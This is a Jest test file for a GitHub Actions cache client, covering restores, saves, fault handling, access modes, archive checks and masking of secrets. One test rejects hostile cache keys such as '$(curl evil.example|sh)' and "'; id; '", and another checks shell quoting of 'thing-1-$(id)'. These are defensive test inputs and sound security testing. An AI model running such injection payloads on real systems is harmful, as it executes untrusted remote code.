import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, test } from '@jest/globals';
import { CACHE_LIMITS, type CacheLimits } from '../../src/caches/actions-cache.ts';
import { cacheServiceOf } from '../../src/caches/service.ts';
import type { Env } from '../../src/core/env.ts';
import { Secrets } from '../../src/core/secrets.ts';
import { cacheOfStep } from '../helpers/caching.ts';
import {
  CACHE_TOKEN,
  type CacheFault,
  type CacheRequest,
  startCacheService,
} from '../helpers/servers/cache-service.ts';
import { type TempFolder, tempFolder } from '../helpers/temp-folder.ts';

/** A step of a job at a stub of the service. */
async function step(limits: CacheLimits = CACHE_LIMITS) {
  const folder = await tempFolder();
  const service = await startCacheService();
  const lines: string[] = [];
  const secrets = new Secrets();
  const stop = new AbortController();
  const says = (level: string) => (text: string) => void lines.push(`${level}: ${text}`);
  const log = { debug: says('debug'), info: says('info'), warning: says('warning') };
  const cacheOf = (env: Env = service.env) => cacheOfStep(env, { log, secrets, signal: stop.signal }, limits);
  return {
    folder,
    service,
    lines,
    secrets,
    stop,
    cacheOf,
    cache: cacheOf(),
    async [Symbol.asyncDispose]() {
      await service[Symbol.asyncDispose]();
      await folder[Symbol.asyncDispose]();
    },
  };
}

const WANTED = { what: 'a thing', key: 'thing-1-', maxBytes: 1_000 };
/** An archive is filled up to 10 KiB. */
const WANTED_FOLDER = { ...WANTED, maxBytes: 20_480 };
const isPart = (name: string) => name.startsWith('parts/');

async function parts(folder: TempFolder): Promise<string> {
  await mkdir(folder.file('from', 'parts'), { recursive: true });
  await writeFile(folder.file('from', 'parts', 'one'), 'first');
  return folder.file('from');
}

describe('the Actions cache', () => {
  test('restores the newest entry with a matching key; the token and the addresses are secrets', async () => {
    await using at = await step();
    const { cache, folder, service, secrets } = at;
    expect(await cache.restoreFile(WANTED, folder.file('none'))).toBeNull();
    for (const [key, text] of [
      ['thing-1-a', 'old'],
      ['thing-1-b', 'new'],
      ['thing-2-c', 'other'],
    ] as const) {
      await writeFile(folder.file('text'), text);
      expect(await cache.saveFile({ what: 'a thing', key }, folder.file('text'))).toBe('stored');
    }
    expect(await cache.restoreFile(WANTED, folder.file('back'))).toBe('thing-1-b');
    expect(await readFile(folder.file('back'), 'utf8')).toBe('new');
    expect(secrets.hide(`${CACHE_TOKEN} ${service.url}/blob/thing-1-b?sig=0123456789abcdef`)).not.toMatch(/token|sig=/);
    // A key is never replaced.
    expect(await cache.saveFile({ what: 'a thing', key: 'thing-1-b' }, folder.file('text'))).toBe('exists');
    expect(service.entries.get('thing-1-b')?.toString()).toBe('new');
    expect(at.lines.join('\n')).not.toContain('warning');
  });

  test('restores folders', async () => {
    await using at = await step();
    const from = await parts(at.folder);
    expect(await at.cache.saveFolder({ what: 'parts', key: 'thing-1-a' }, from, ['parts/one'])).toBe(true);
    expect(await at.cache.restoreFolder(WANTED_FOLDER, at.folder.file('to'), isPart)).toBe('thing-1-a');
    expect(await readFile(at.folder.file('to', 'parts', 'one'), 'utf8')).toBe('first');
    expect((await readdir(at.folder.path)).sort()).toEqual(['from', 'to']);
  });

  test('refuses a folder with unexpected files, names the entry, and leaves nothing', async () => {
    await using at = await step();
    const from = await parts(at.folder);
    await writeFile(join(from, 'hook'), 'run me');
    const many = Array.from({ length: 12 }, (_, index) => `parts/part-${index}`);
    for (const name of many) await writeFile(join(from, name), 'x');
    await at.cache.saveFolder({ what: 'parts', key: 'thing-1-a' }, from, ['parts/one', ...many, 'hook']);
    expect(await at.cache.restoreFolder(WANTED_FOLDER, at.folder.file('to'), isPart)).toBeNull();
    expect(at.lines.at(-1)).toBe(
      'warning: The entry thing-1-a of the Actions cache is not used: the archive was refused: "hook" is not expected there. Delete it: gh cache delete thing-1-a',
    );
    expect(await readdir(at.folder.path)).toEqual(['from']);
    // Only this entry is bad.
    await at.cache.saveFolder({ what: 'parts', key: 'thing-1-b' }, from, ['parts/one']);
    expect(await at.cache.restoreFolder(WANTED_FOLDER, at.folder.file('to'), isPart)).toBe('thing-1-b');
  });

  test.each(['$(curl evil.example|sh)', "'; id; '", 'a b', 'a\nDelete it: b', 'a%2eb', '\u202ea'])(
    'accepts no entry whose key ends in %j',
    async (end) => {
      await using at = await step();
      at.service.entries.set(`thing-1-${end}`, Buffer.from('x'));
      expect(await at.cache.restoreFile(WANTED, at.folder.file('to'))).toBeNull();
      expect(at.lines).toEqual(['info: Actions cache: a thing: no entry']);
      expect(at.service.requests).toEqual(['GetCacheEntryDownloadURL']);
    },
  );

  test('quotes the name of a refused entry in a command as one word of a shell', async () => {
    await using at = await step();
    at.cache.refuse('thing-1-$(id)', 'it is foreign');
    expect(at.lines.at(-1)).toMatch(/ Delete it: gh cache delete 'thing-1-\$\(id\)'$/);
  });

  const SHORT: CacheLimits = { allMs: 600, answerMs: 100 };
  test.each<[CacheRequest, CacheFault, RegExp]>([
    ['GetCacheEntryDownloadURL', 403, /127\.0\.0\.1 answered 403/],
    ['GetCacheEntryDownloadURL', 503, /answered 503/],
    ['GetCacheEntryDownloadURL', 302, /answered 302/],
    ['GetCacheEntryDownloadURL', 'silent', /silent for 0\.1 s/],
    ['GetCacheEntryDownloadURL', 'cut', /./],
    ['GetCacheEntryDownloadURL', 'trickle', /the time for the cache is over/],
    ['download', 404, /answered 404/],
    ['download', 500, /answered 500/],
    ['download', 'silent', /silent for 0\.1 s/],
    ['download', 'cut', /./],
    ['download', 'trickle', /the time for the cache is over/],
  ])('answers %s with %s: a miss, and no further request', async (request, fault, why) => {
    await using at = await step(SHORT);
    at.service.entries.set('thing-1-a', Buffer.alloc(900, 1));
    at.service.faults.set(request, fault);
    const begun = performance.now();
    expect(await at.cache.restoreFile(WANTED, at.folder.file('to'))).toBeNull();
    expect(performance.now() - begun).toBeLessThan(5_000);
    expect(await readdir(at.folder.path)).toEqual([]);
    expect(at.lines).toHaveLength(1);
    expect(at.lines[0]).toMatch(
      /^info: Actions cache: a thing was not restored: .*\. This step goes on without the cache\.$/,
    );
    expect(at.lines[0]).toMatch(why);
    const asked = at.service.requests.length;
    expect(await at.cache.restoreFile(WANTED, at.folder.file('to'))).toBeNull();
    await writeFile(at.folder.file('text'), 'text');
    expect(await at.cache.saveFile({ what: 'a thing', key: 'thing-1-b' }, at.folder.file('text'))).toBe('failed');
    expect(at.service.requests).toHaveLength(asked);
  });

  test.each<[CacheRequest, CacheFault]>([
    ['CreateCacheEntry', 403],
    ['CreateCacheEntry', 'denied'],
    ['CreateCacheEntry', 'silent'],
    ['upload', 403],
    ['upload', 500],
    ['upload', 'silent'],
    ['FinalizeCacheEntryUpload', 500],
    ['FinalizeCacheEntryUpload', 'silent'],
  ])('answers %s with %s: the step succeeds and stores nothing more', async (request, fault) => {
    await using at = await step(SHORT);
    await writeFile(at.folder.file('text'), 'x'.repeat(200_000));
    at.service.faults.set(request, fault);
    expect(await at.cache.saveFile({ what: 'a thing', key: 'thing-1-a' }, at.folder.file('text'))).toBe('failed');
    expect([...at.service.entries.keys()]).toEqual([]);
    expect(at.lines).toEqual([
      expect.stringMatching(
        /^info: Actions cache: a thing was not stored: .*\. This step stores nothing more in it\.$/,
      ),
    ]);
    // It may still read.
    at.service.entries.set('thing-1-a', Buffer.from('x'));
    expect(await at.cache.restoreFile(WANTED, at.folder.file('back'))).toBe('thing-1-a');
    const asked = at.service.requests.length;
    expect(await at.cache.saveFile({ what: 'a thing', key: 'thing-1-b' }, at.folder.file('text'))).toBe('failed');
    expect(at.service.requests).toHaveLength(asked);
  });

  test('is a miss if it cannot be reached', async () => {
    await using at = await step();
    const gone = at.cacheOf({ ...at.service.env, ACTIONS_RESULTS_URL: 'http://127.0.0.1:9/' });
    expect(await gone.restoreFile(WANTED, at.folder.file('to'))).toBeNull();
    expect(at.lines[0]).toContain('a thing was not restored: ');
  });

  test('is unavailable at an address without https on another machine', async () => {
    await using at = await step();
    await using other = await startCacheService();
    at.service.entries.set('thing-1-a', Buffer.from('x'));
    const answers = at.service.url.replace('127.0.0.1', '192.0.2.1');
    expect(cacheServiceOf({ ...other.env, ACTIONS_RESULTS_URL: answers })).toEqual({
      kind: 'unavailable',
      why: 'its address is not https',
    });
  });

  test('refuses an entry that is too large', async () => {
    await using at = await step();
    at.service.entries.set('thing-1-a', Buffer.alloc(1_001));
    expect(await at.cache.restoreFile(WANTED, at.folder.file('to'))).toBeNull();
    expect(at.lines[0]).toContain('larger than 1000 bytes');
    expect(await readdir(at.folder.path)).toEqual([]);
  });

  test('is not asked by a cancelled step', async () => {
    await using at = await step();
    at.stop.abort();
    expect(await at.cache.restoreFile(WANTED, at.folder.file('to'))).toBeNull();
    expect([at.service.requests, at.lines[0]]).toEqual([[], expect.stringContaining('the step was cancelled')]);
  });

  test.each([
    ['none', 0, 0],
    ['read', 1, 0],
    ['write-only', 0, 3],
    ['write', 1, 3],
  ])('reads and writes as the mode %s allows', async (mode, reads, writes) => {
    await using at = await step();
    const cache = at.cacheOf({ ...at.service.env, ACTIONS_CACHE_MODE: mode });
    await cache.restoreFile(WANTED, at.folder.file('to'));
    expect(at.service.requests).toHaveLength(reads);
    await writeFile(at.folder.file('text'), 'text');
    await cache.saveFile({ what: 'a thing', key: 'thing-1-a' }, at.folder.file('text'));
    expect(at.service.requests).toHaveLength(reads + writes);
  });

  test('limits the check of an entry to the remaining time', async () => {
    await using at = await step({ allMs: 150, answerMs: 100 });
    const late = await at.cache.check(
      'the check',
      (signal) => new Promise((_, fail) => signal.addEventListener('abort', () => fail(signal.reason))),
    );
    expect([late, at.lines]).toEqual([null, ['info: Actions cache: the check: the time for the cache is over']]);
  });
});

const RUNNER = {
  ACTIONS_RESULTS_URL: 'https://results.example/',
  ACTIONS_RUNTIME_TOKEN: 't',
  ACTIONS_CACHE_SERVICE_V2: 'True',
};

test.each<[string, Record<string, string>, object]>([
  ['github.com', RUNNER, { kind: 'available', url: 'https://results.example/', mayRead: true, mayWrite: true }],
  ['a tenant of GHE.com', { ...RUNNER, GITHUB_SERVER_URL: 'https://acme.ghe.com' }, { kind: 'available' }],
  [
    'an Enterprise Server',
    { ...RUNNER, GITHUB_SERVER_URL: 'https://git.example' },
    { kind: 'unavailable', why: 'GitHub Enterprise Server has none' },
  ],
  [
    'a runner without version 2',
    { ACTIONS_RESULTS_URL: 'https://results.example/', ACTIONS_RUNTIME_TOKEN: 't' },
    { kind: 'unavailable', why: 'the runner does not offer version 2 of it' },
  ],
  [
    'a step that is not JavaScript',
    { ACTIONS_CACHE_SERVICE_V2: 'true' },
    { kind: 'unavailable', why: 'the runner does not name it' },
  ],
  ['an invalid address', { ...RUNNER, ACTIONS_RESULTS_URL: 'results' }, { kind: 'unavailable' }],
  ['an invalid server', { ...RUNNER, GITHUB_SERVER_URL: 'none' }, { kind: 'unavailable' }],
  ['an unknown mode', { ...RUNNER, ACTIONS_CACHE_MODE: 'both' }, { mayRead: true, mayWrite: true }],
])('the availability of the cache on %s', (_, env, expected) => {
  expect(cacheServiceOf(env)).toMatchObject(expected);
});
